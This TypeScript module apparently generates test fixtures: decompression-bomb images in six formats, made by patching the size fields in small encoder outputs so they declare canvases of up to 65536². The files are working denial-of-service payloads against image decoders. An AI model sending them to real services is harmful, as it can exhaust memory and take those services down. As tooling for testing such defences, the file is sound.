import { deflateSync } from "node:zlib";
import sharp, { type Sharp } from "sharp";
import { decompressionBombPng } from "./bomb-png.js";

/** Formats a pixel bomb can be made in. */
export type BombFormat = "png" | "jpeg" | "webp" | "avif" | "gif" | "tiff";

/**
 * Pixel bombs: files of a few hundred bytes whose header declares a huge canvas. Each is a real encoder's
 * output (or, for png and tiff, a hand-made file) with only the size fields rewritten, so any
 * reader takes the header at its word; decoding would need gigabytes before the short body ran out.
 * The declared sizes are at or near each format's largest (webp 16383², libjpeg's 65500², gif
 * 65535², png and tiff 65536²); avif declares 16384², libheif's own limit, so libheif would try it.
 */
export async function pixelBomb(format: BombFormat, size: BombSize = BOMB_SIZES[format]): Promise<Buffer> {
  switch (format) {
    case "png":
      return decompressionBombPng(size.width, size.height);
    case "jpeg":
      return jpegBomb(size);
    case "webp":
      return webpBomb(size);
    case "avif":
      return avifBomb(size);
    case "gif":
      return gifBomb(size);
    case "tiff":
      return tiffBomb(size);
  }
}

/** The size a bomb declares; {@link BOMB_SIZES} by default, or any other (within the format's fields). */
export interface BombSize {
  width: number;
  height: number;
}

/** What {@link pixelBomb} declares for each format. */
export const BOMB_SIZES: Readonly<Record<BombFormat, BombSize>> = {
  png: { width: 65536, height: 65536 },
  jpeg: { width: 65500, height: 65500 },
  webp: { width: 16383, height: 16383 },
  avif: { width: 16384, height: 16384 },
  gif: { width: 65535, height: 65535 },
  tiff: { width: 65536, height: 65536 },
};

const SMALL = { width: 16, height: 16, channels: 3, background: { r: 200, g: 60, b: 20 } } as const;

function small(): Sharp {
  return sharp({ create: SMALL });
}

/** Finds `marker` in `data` or fails naming it: the encoder's layout is what the patch relies on. */
function offsetOf(data: Buffer, marker: Buffer | string): number {
  const at = data.indexOf(marker);
  if (at < 0) throw new Error(`Expected marker ${JSON.stringify(marker.toString())} in the encoder's output`);
  return at;
}

/** A baseline jpeg whose SOF0 declares the size (libjpeg reads up to 65500²). */
async function jpegBomb(size: BombSize): Promise<Buffer> {
  const data = await small().jpeg({ quality: 50 }).toBuffer();
  const sof = offsetOf(data, Buffer.from([0xff, 0xc0]));
  // SOF0: marker, length (2), precision (1), height (2), width (2).
  data.writeUInt16BE(size.height, sof + 5);
  data.writeUInt16BE(size.width, sof + 7);
  return data;
}

/** A lossy (VP8) webp whose frame header declares the size (14 bits each: at most 16383²). */
async function webpBomb(size: BombSize): Promise<Buffer> {
  const data = await small().webp({ quality: 50 }).toBuffer();
  // After the key frame's start code come width and height, each 14 bits plus a 2-bit scale.
  const start = offsetOf(data, Buffer.from([0x9d, 0x01, 0x2a]));
  data.writeUInt16LE(size.width, start + 3);
  data.writeUInt16LE(size.height, start + 5);
  return data;
}

/** An avif whose `ispe` (image spatial extents) property declares the size. */
async function avifBomb(size: BombSize): Promise<Buffer> {
  const data = await small().avif({ quality: 50, effort: 0 }).toBuffer();
  // ispe: box type, version and flags (4), width (4), height (4).
  const ispe = offsetOf(data, "ispe");
  data.writeUInt32BE(size.width, ispe + 8);
  data.writeUInt32BE(size.height, ispe + 12);
  return data;
}

/**
 * A gif whose logical screen and first frame declare the size: decoders size the canvas from the
 * frames (libnsgif ignores a screen over 2048 px), so both say it; the frame's data covers 16×16.
 */
async function gifBomb(size: BombSize): Promise<Buffer> {
  const data = await small().gif().toBuffer();
  const { width, height } = size;
  data.writeUInt16LE(width, 6);
  data.writeUInt16LE(height, 8);
  const frame = firstGifFrame(data);
  // Image descriptor: separator, left (2), top (2), width (2), height (2).
  data.writeUInt16LE(width, frame + 5);
  data.writeUInt16LE(height, frame + 7);
  return data;
}

/** Offset of the first image descriptor (0x2C), skipping the colour table and extension blocks. */
function firstGifFrame(data: Buffer): number {
  const flags = data[10] ?? 0;
  let at = 13 + (flags & 0x80 ? 3 * 2 ** ((flags & 0x07) + 1) : 0);
  while (data[at] === 0x21) {
    at += 2; // introducer and label, then sub-blocks until a zero length
    while ((data[at] ?? 0) !== 0) at += (data[at] ?? 0) + 1;
    at += 1;
  }
  if (data[at] !== 0x2c) throw new Error(`Expected a gif image descriptor at byte ${at} of the encoder's output`);
  return at;
}

/**
 * A greyscale tiff declaring the size in one deflate strip holding only its first rows
 * (little-endian, hand-made: libtiff reads the size from the IFD alone).
 */
function tiffBomb(size: BombSize): Buffer {
  const { width, height } = size;
  const strip = deflateSync(Buffer.alloc(width * 4));
  const entries: [tag: number, type: number, value: number][] = [
    [256, 4, width], // ImageWidth, LONG
    [257, 4, height], // ImageLength
    [258, 3, 8], // BitsPerSample, SHORT
    [259, 3, 8], // Compression: deflate
    [262, 3, 1], // PhotometricInterpretation: min-is-black
    [273, 4, 0], // StripOffsets: patched below
    [277, 3, 1], // SamplesPerPixel
    [278, 4, height], // RowsPerStrip: one strip
    [279, 4, strip.length], // StripByteCounts
  ];
  const ifdOffset = 8;
  const ifdBytes = 2 + entries.length * 12 + 4;
  const stripOffset = ifdOffset + ifdBytes;
  const out = Buffer.alloc(stripOffset + strip.length);
  out.write("II*\0", 0, "latin1");
  out.writeUInt32LE(ifdOffset, 4);
  out.writeUInt16LE(entries.length, ifdOffset);
  entries.forEach(([tag, type, value], i) => {
    const at = ifdOffset + 2 + i * 12;
    out.writeUInt16LE(tag, at);
    out.writeUInt16LE(type, at + 2);
    out.writeUInt32LE(1, at + 4);
    if (type === 3) out.writeUInt16LE(value, at + 8);
    else out.writeUInt32LE(tag === 273 ? stripOffset : value, at + 8);
  });
  // The next-IFD offset after the entries stays 0: a single page.
  strip.copy(out, stripOffset);
  return out;
}
